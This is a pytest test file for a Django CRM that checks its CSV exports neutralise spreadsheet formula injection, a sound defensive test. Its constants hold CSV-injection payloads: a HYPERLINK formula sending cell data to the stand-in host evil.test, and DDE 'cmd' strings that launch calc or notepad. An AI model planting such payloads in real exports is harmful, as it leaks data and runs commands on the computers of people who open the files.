"""Every CSV leadcrew writes can be opened in a spreadsheet without running what a user typed
(OWASP "CSV injection"): the lead export of the API and of the list page, the bulk export, and
the statistics as CSV from the API and from the statistics page. Text cells that start with
=, +, -, @, a tab or a carriage return come out behind a single quote; numbers stay numbers."""

import csv
import json
import re
from decimal import Decimal
from io import StringIO
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from leadcrew.accounts.models import User
from leadcrew.core.csv_safety import FORMULA_STARTS
from leadcrew.leads.models import Lead, LeadTag, Pipeline, Status, Step
from leadcrew.teams.models import Team
from leadcrew.testing.cast import Cast

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.test/?"&A1,"Click me")'
DESCRIPTION = "+1+cmd|' /C calc'!A0"
TAG = "@SUM(1+1)*cmd|' /C calc'!A0"
TEAM = "-2+3+cmd|' /C calc'!A0"
STEP = "\t=1+1"
PIPELINE = "\r=1+1"
FIRST_NAME = "=cmd|' /C notepad'!A0"
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(?:\.[0-9]+)?")


@pytest.fixture
def booby_trapped(cast: Cast) -> Lead:
    """Nils's lead in North, with a formula in every text it shows and an amount: its owner,
    team, step, pipeline and tags too."""
    lead = cast.leads.nils_north
    step = Step.objects.get(pk=lead.step_id)
    Pipeline.objects.filter(pk=step.pipeline_id).update(name=PIPELINE)
    Step.objects.filter(pk=step.pk).update(name=STEP)
    Team.objects.filter(pk=cast.north.pk).update(name=TEAM)
    User.objects.filter(pk=cast.nils.pk).update(first_name=FIRST_NAME)
    Lead.objects.filter(pk=lead.pk).update(
        title=TITLE,
        description=DESCRIPTION,
        amount=Decimal("1234.50"),
        status=Status.WON,
        closed_at=timezone.now(),
    )
    LeadTag.objects.create(account=cast.account, lead=lead, name=TAG)
    return lead


def rows_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    raw = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(StringIO(raw, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each one starting like a formula is a signed number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert SIGNED_NUMBER.fullmatch(cell), (cell, row)


def lead_row(rows: list[list[str]], lead: Lead) -> dict[str, str]:
    header, *data = rows
    found = [dict(zip(header, row, strict=True)) for row in data if row[0] == str(lead.pk)]
    assert len(found) == 1
    return found[0]


def assert_lead_quoted(rows: list[list[str]], lead: Lead) -> None:
    assert_no_formula(rows)
    row = lead_row(rows, lead)
    assert row["title"] == "'" + TITLE
    assert row["description"] == "'" + DESCRIPTION
    assert row["tags"] == "'" + TAG
    assert row["team"] == "'" + TEAM
    assert row["step"] == "'" + STEP
    assert row["pipeline"] == "'" + PIPELINE
    assert row["amount"] == "1234.50"  # a number, as it was


def test_the_api_bulk_export(cast: Cast, booby_trapped: Lead) -> None:
    response = Client(headers=cast.headers(cast.nils)).post(
        "/api/v2/leads/bulk",
        json.dumps({"action": "export", "ids": [booby_trapped.pk]}),
        content_type="application/json",
    )
    assert_lead_quoted(rows_of(response), booby_trapped)


def test_the_api_export_of_every_matching_lead(cast: Cast, booby_trapped: Lead) -> None:
    response = Client(headers=cast.headers(None)).post(
        "/api/v2/leads/bulk",
        json.dumps({"action": "export", "filter": {}}),
        content_type="application/json",
    )
    assert_lead_quoted(rows_of(response), booby_trapped)


def logged_in(user: User) -> Client:
    client = Client()
    client.force_login(user, backend="leadcrew.accounts.backends.EmailBackend")
    return client


def test_the_list_pages_export(cast: Cast, booby_trapped: Lead) -> None:
    response = logged_in(cast.nils).post(
        "/leads/export", {"scope": "selected", "ids": [booby_trapped.pk]}
    )
    assert_lead_quoted(rows_of(response), booby_trapped)


def _member_label(rows: list[list[str]], cast: Cast) -> str:
    header, *data = rows
    found = [dict(zip(header, row, strict=True)) for row in data if row[0] == str(cast.nils.pk)]
    assert len(found) == 1
    return found[0]["label"]


def test_the_api_statistics_csv(cast: Cast, booby_trapped: Lead) -> None:
    response = Client(headers=cast.headers(None)).get(
        "/api/v2/statistics", {"format": "csv", "group_by": "member"}
    )
    rows = rows_of(response)
    assert_no_formula(rows)
    assert _member_label(rows, cast).startswith("'" + FIRST_NAME)
    totals = dict(zip(rows[0], rows[-1], strict=True))
    assert totals["won_amount"] == "1234.50"


def test_the_statistics_pages_export(cast: Cast, booby_trapped: Lead) -> None:
    response = logged_in(cast.admin).get("/stats/export", {"whose": "account", "group_by": "team"})
    rows = rows_of(response)
    assert_no_formula(rows)
    _header, *data = rows
    teams = {row[0]: row[1] for row in data}
    assert teams[str(cast.north.pk)] == "'" + TEAM
